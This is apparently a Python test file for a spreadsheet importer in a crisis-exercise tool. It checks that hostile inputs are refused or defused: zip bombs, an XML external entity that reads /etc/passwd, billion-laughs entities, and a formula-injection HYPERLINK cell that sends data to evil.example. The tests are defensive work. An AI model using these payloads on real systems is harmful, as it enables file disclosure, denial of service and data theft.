"""Hostile spreadsheets: bounded, refused with a line, never a crash, a hang or gigabytes.

The issue's examples: a zip bomb, shared strings by the megabyte, a 100 000-row CSV, broken sheet
XML, external entities and billion laughs, an encrypted workbook, Excel's UTF-16 "Unicode text",
a 5 MB cell, ``Day 999999999 09:00``, and cells a spreadsheet would run as formulas.
"""

from __future__ import annotations

import zipfile
from pathlib import Path

import openpyxl
import pytest
import yaml

from crisissim.cli import main
from crisissim.scenario import msel_import
from crisissim.scenario.msel_import import MAX_CELL_CHARS, MAX_COLUMNS, MAX_ROWS, import_msel

HEADER = "Time,Title,Description,From\n"


def csv_file(tmp_path: Path, text: str, name: str = "msel.csv", encoding: str = "utf-8") -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


def zipped(tmp_path: Path, parts: dict[str, bytes], name: str = "msel.xlsx", level: int = 9) -> Path:
    path = tmp_path / name
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for part, data in parts.items():
            archive.writestr(part, data)
    return path


def workbook(tmp_path: Path, rows: list[list[object]], name: str = "msel.xlsx") -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    path = tmp_path / name
    book.save(path)
    return path


def the_problem(path: Path) -> str:
    result = import_msel(path)
    assert result.text == "" and result.rows == 0
    [problem] = result.problems
    return str(problem)


def test_a_zip_bomb_is_refused_before_it_is_unzipped(tmp_path):
    path = zipped(tmp_path, {"xl/worksheets/sheet1.xml": b"<a>" + b" " * (60 * 1024 * 1024) + b"</a>"})
    assert path.stat().st_size < 200_000
    assert "unzips to 62,914,567 bytes, more than the 52,428,800 any MSEL needs (a zip bomb?)" in the_problem(path)


def test_a_part_compressed_beyond_any_sheet_is_refused(tmp_path):
    path = zipped(tmp_path, {"xl/worksheets/sheet1.xml": b"<a>" + b"0" * (8 * 1024 * 1024) + b"</a>"})
    assert "its part xl/worksheets/sheet1.xml is compressed" in the_problem(path)


def test_too_many_shared_strings_are_refused(tmp_path):
    strings = b"".join(b"<si><t>%d</t></si>" % i for i in range(100_001))
    path = zipped(tmp_path, {"xl/sharedStrings.xml": b"<sst>" + strings + b"</sst>"}, level=1)
    assert "more than 100,000 different texts (shared strings)" in the_problem(path)


@pytest.mark.parametrize(
    "xml",
    [
        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet>&e;</worksheet>',
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
        b"<worksheet>&lol2;</worksheet>",
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e "e">]><worksheet/>'.encode("utf-16"),
    ],
    ids=["external entity", "billion laughs", "in UTF-16"],
)
def test_entities_and_dtds_are_refused(tmp_path, xml):
    path = zipped(tmp_path, {"[Content_Types].xml": b"<Types/>", "xl/worksheets/sheet1.xml": xml})
    assert "declares a DTD or entities, which no workbook needs" in the_problem(path)


def test_broken_sheet_xml_is_a_line_not_a_parse_error(tmp_path):
    good = workbook(tmp_path, [["Time", "Title", "Description"], ["5", "A", "a"]], "good.xlsx")
    with zipfile.ZipFile(good) as source:
        parts = {info.filename: source.read(info) for info in source.infolist()}
    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"][:200]
    problem = the_problem(zipped(tmp_path, parts))
    assert ":1:1: error: file: cannot be read: not a readable .xlsx workbook: its XML is broken" in problem


def test_an_encrypted_workbook_says_so(tmp_path):
    path = tmp_path / "secret.xlsx"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500 + "EncryptedPackage".encode("utf-16-le"))
    assert "the workbook is encrypted (protected with a password to open)" in the_problem(path)


def test_utf16_unicode_text_is_read(tmp_path):
    text = "Time\tTitle\tDescription\r\n5\tLek bij Zoë\tDe database staat online.\r\n"
    result = import_msel(csv_file(tmp_path, text, "unicode.txt", "utf-16"))
    assert result.problems == [] and result.rows == 1
    assert "Lek bij Zoë" in result.text


def test_a_5_mb_cell_is_refused_by_name(tmp_path):
    path = csv_file(tmp_path, HEADER + "5,Title," + "x" * 5_000_000 + ",SOC\n")
    problem = the_problem(path)
    assert f"{path}:2:1: error: row 2: cannot be read: a cell holds more than 131,072 characters" in problem
    assert "at most 32,767 (Excel's own limit)" in problem


def test_a_cell_over_excels_limit_is_refused_at_its_row_and_column(tmp_path):
    path = csv_file(tmp_path, HEADER + "5,A," + "y" * (MAX_CELL_CHARS + 1) + ",SOC\n")
    problem = the_problem(path)
    assert f"{path}:2:3: error: row 2: column 3: cannot be read: a cell holds 32,768 characters" in problem


def test_a_100k_row_csv_is_refused_without_reading_it_all(tmp_path):
    path = csv_file(tmp_path, HEADER + "".join(f"{i},T{i},D{i},S\n" for i in range(100_000)))
    assert f"the sheet has more than {MAX_ROWS:,} rows below its header" in the_problem(path)


def test_too_many_columns_and_too_large_a_file_are_refused(tmp_path):
    wide = csv_file(tmp_path, HEADER + "5,A,a," + ",".join(["x"] * MAX_COLUMNS) + "\n", "wide.csv")
    assert "wide.csv:2:101: error: row 2: cannot be read: the row fills 103 columns" in the_problem(wide)
    big = csv_file(tmp_path, HEADER + "5,A," + "word " * 2_200_000 + ",S\n", "big.csv")
    assert "more than the 10,485,760 any MSEL needs" in the_problem(big)


def test_day_999999999_is_a_row_left_out_and_the_rest_imports(tmp_path, capsys):
    path = csv_file(tmp_path, HEADER + "Day 999999999 09:00,Late,Far too late,SOC\nDay 1 09:00,Now,Now,SOC\n")
    target = tmp_path / "out.yaml"
    assert main(["import-msel", str(path), "-o", str(target)]) == 2
    err = capsys.readouterr().err
    [line] = [line for line in err.splitlines() if "row 2" in line]
    assert line.startswith(f"{path}:2:1: error: row 2: scenario time: 'Day 999999999 09:00' is T+")
    assert "longer than 30 days, the most an exercise can last; the row was left out" in line
    assert "Traceback" not in err
    assert main(["validate", str(target)]) == 0


def test_nothing_is_written_that_would_not_validate(tmp_path, capsys, monkeypatch):
    def broken(*_args, **_kwargs):
        return msel_import.ImportResult("crisissim: 1\nid: x\nduration: 999999999d\n", [], 1)

    monkeypatch.setattr(msel_import, "import_msel", broken)
    target = tmp_path / "out.yaml"
    assert main(["import-msel", str(csv_file(tmp_path, HEADER)), "-o", str(target)]) == 2
    assert not target.exists()
    err = capsys.readouterr().err
    assert f"{target}:3:11: error: duration: 999999999d is longer than 30 days" in err
    assert "nothing was written" in err


def test_formula_cells_are_flagged_and_imported_as_text(tmp_path, capsys):
    text = (
        HEADER + '5,=HYPERLINK("http://evil.example/?d="&A1;"Click"),Text,@aqualis_watch\n'
        "6,Plain,+31 20 123 4567,-1+1\n"
        '7,Listed,"- first\n- second",\'=already text\n'
    )
    path = csv_file(tmp_path, text)
    target = tmp_path / "out.yaml"
    assert main(["import-msel", str(path), "-o", str(target)]) == 0
    err = capsys.readouterr().err.splitlines()
    assert err == [
        f"{path}:2:2: warning: row 2: title: the cell starts with '=', which a spreadsheet runs as a formula; "
        "it is imported as text, with a ' in front",
        f"{path}:3:4: warning: row 3: from: the cell starts with '-', which a spreadsheet runs as a formula; "
        "it is imported as text, with a ' in front",
    ]
    events = yaml.safe_load(target.read_text())["events"]
    assert events[0]["title"].startswith("'=HYPERLINK(")
    assert events[0]["from"] == "@aqualis_watch"  # a handle runs nothing
    assert events[1]["body"] == "+31 20 123 4567" and events[1]["from"] == "'-1+1"
    assert events[2]["body"] == "- first\n- second" and events[2]["from"] == "=already text"


def test_a_zip_that_lies_about_its_sizes_is_read_no_further_than_it_says(tmp_path):
    import struct

    path = zipped(tmp_path, {"xl/worksheets/sheet1.xml": b"<a>" + b" " * (20 * 1024 * 1024) + b"</a>"})
    data = bytearray(path.read_bytes())
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):  # the sizes, local and central
        at = data.find(signature) + offset
        data[at : at + 4] = struct.pack("<I", 5000)
    path.write_bytes(bytes(data))
    assert "its part xl/worksheets/sheet1.xml cannot be unzipped (Bad CRC-32" in the_problem(path)
